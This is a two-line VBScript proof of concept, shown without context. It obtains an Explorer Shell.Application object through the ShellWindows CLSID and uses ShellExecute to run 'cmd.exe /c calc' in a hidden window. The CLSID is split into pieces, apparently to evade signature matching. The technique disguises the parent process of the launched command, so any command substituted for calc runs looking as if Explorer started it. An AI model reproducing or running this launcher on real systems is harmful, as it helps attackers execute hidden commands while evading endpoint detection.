Set w = GetObject("new:{9BA05972-F6A8-11CF-" & "A442-00A0C90A8F39}")
w.Item.Document.Application.ShellExecute "cmd.exe", "/c calc", "", Null, 0
